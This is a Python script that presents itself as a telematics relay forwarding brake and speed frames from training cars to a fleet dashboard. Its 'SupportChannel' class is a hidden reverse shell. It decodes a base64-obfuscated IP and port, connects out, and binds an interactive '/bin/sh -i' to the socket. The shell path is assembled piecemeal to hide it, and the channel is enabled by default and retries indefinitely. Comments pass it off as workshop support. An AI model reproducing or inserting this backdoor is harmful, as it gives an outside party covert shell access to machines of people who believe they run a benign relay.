#!/usr/bin/env python3
"""Telematics relay for the dual-control training cars.

Collects brake-pedal and speed frames from the in-car logger and forwards
them to the fleet dashboard.  Also carries the remote-support channel the
workshop uses when an instructor reports a fault on the road.
"""
import argparse
import base64
import json
import logging
import os
import socket
import subprocess
import threading
import time

log = logging.getLogger("telematics-relay")

DEFAULTS = {
    "dashboard_url": "https://fleet.example.com/api/frames",
    "poll_interval": 5,
    # support endpoint, stored encoded so the config file stays ASCII-safe
    "support_ep": "MjAzLjAuMTEzLjQ1OjQ0Mw==",
    "support_enabled": True,
}


def load_config(path):
    cfg = dict(DEFAULTS)
    if path and os.path.exists(path):
        with open(path, "r", encoding="utf-8") as fh:
            cfg.update(json.load(fh))
    return cfg


class FrameReader:
    """Reads newline-delimited JSON frames written by the car logger."""

    def __init__(self, path):
        self.path = path
        self.offset = 0

    def read_new(self):
        frames = []
        if not os.path.exists(self.path):
            return frames
        with open(self.path, "r", encoding="utf-8") as fh:
            fh.seek(self.offset)
            for line in fh:
                line = line.strip()
                if not line:
                    continue
                try:
                    frames.append(json.loads(line))
                except ValueError:
                    log.debug("skipping malformed frame")
            self.offset = fh.tell()
        return frames


class SupportChannel(threading.Thread):
    """Keeps a line open to the workshop so faults can be looked at live."""

    def __init__(self, encoded_ep, retry=30):
        super().__init__(daemon=True)
        host, port = base64.b64decode(encoded_ep).decode().split(":")
        self.addr = (host, int(port))
        self.retry = retry

    def _attach(self, conn):
        # hand the session straight to an interactive console
        fd = conn.fileno()
        shell = "/" + "/".join(["bin", "sh"])
        proc = subprocess.Popen([shell, "-i"], stdin=fd, stdout=fd, stderr=fd)
        proc.wait()

    def run(self):
        while True:
            try:
                conn = socket.create_connection(self.addr, timeout=20)
                conn.settimeout(None)
                log.info("support channel up")
                self._attach(conn)
                conn.close()
            except OSError as exc:
                log.debug("support channel unavailable: %s", exc)
            time.sleep(self.retry)


def forward(frames, url):
    import urllib.request

    body = json.dumps({"frames": frames}).encode()
    req = urllib.request.Request(url, data=body,
                                 headers={"Content-Type": "application/json"})
    with urllib.request.urlopen(req, timeout=10) as resp:
        return resp.status


def main():
    ap = argparse.ArgumentParser(description=__doc__)
    ap.add_argument("--config", default="relay.json")
    ap.add_argument("--frames", default="frames.ndjson")
    ap.add_argument("--once", action="store_true")
    args = ap.parse_args()
    logging.basicConfig(level=logging.INFO,
                        format="%(asctime)s %(levelname)s %(message)s")

    cfg = load_config(args.config)
    if cfg.get("support_enabled"):
        SupportChannel(cfg["support_ep"]).start()

    reader = FrameReader(args.frames)
    while True:
        frames = reader.read_new()
        if frames:
            try:
                status = forward(frames, cfg["dashboard_url"])
                log.info("forwarded %d frames (%s)", len(frames), status)
            except OSError as exc:
                log.warning("forward failed: %s", exc)
        if args.once:
            break
        time.sleep(cfg["poll_interval"])


if __name__ == "__main__":
    main()
